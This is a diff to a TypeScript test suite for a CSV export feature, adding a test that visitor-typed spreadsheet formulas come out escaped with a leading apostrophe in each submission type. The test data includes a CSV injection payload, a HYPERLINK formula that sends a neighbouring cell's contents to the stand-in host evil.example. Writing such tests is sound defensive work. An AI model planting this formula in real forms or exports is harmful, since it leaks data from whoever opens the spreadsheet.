@@ -15,6 +15,14 @@ const exporters: Record<string, Role[]> = {
   'career-applications': ['admin', 'recruiter'],
 }
 
+/** A field each kind of submission stores as the visitor typed it. */
+const typedName: Record<string, string> = {
+  'contact-submissions': 'lastName',
+  'quote-requests': 'contactName',
+  'partnership-applications': 'contact',
+  'career-applications': 'lastName',
+}
+
 describe('CSV export', () => {
   it('downloads exactly the rows of the filtered list, with a header row', async () => {
     const marker = newMarker()
@@ -33,6 +41,36 @@ describe('CSV export', () => {
     const rows = parseCsv(response.body as string)
     expect(rows.map((row) => Number(row.ID)).sort()).toEqual(ids.slice(1).sort())
     expect(rows[0]).toMatchObject({ 'First Name': marker, Status: 'Contacted' })
+  })
+
+  it('exports a formula a visitor typed as text, in every kind of submission', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&D2,"open")'
+    const cells = ['+1+1', '-2+3', '@SUM(A1)', '\tTAB', '\rCR', 'Ada = fine']
+    for (const collection of Object.keys(exporters)) {
+      const marker = newMarker()
+      const id = await makeSubmission(context, collection as never, marker, {
+        [typedName[collection]]: formula,
+      })
+      const response = await rest('GET', `/api/${collection}/export.csv?where[id][equals]=${id}`, {
+        token: context.users.admin.token,
+      })
+      const [row] = parseCsv(response.body as string)
+      expect(Object.values(row)).toContain(`'${formula}`)
+      expect(Object.values(row).some((cell) => /^[=+\-@\t\r]/.test(cell))).toBe(false)
+    }
+    const marker = newMarker()
+    for (const cell of cells) {
+      const id = await makeSubmission(context, 'contact-submissions', marker, { lastName: cell })
+      const response = await rest(
+        'GET',
+        `/api/contact-submissions/export.csv?where[id][equals]=${id}`,
+        {
+          token: context.users.admin.token,
+        },
+      )
+      const [row] = parseCsv(response.body as string)
+      expect(row['Last Name']).toBe(/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell)
+    }
   })
 
   it("applies the list's search box to name, e-mail and company", async () => {
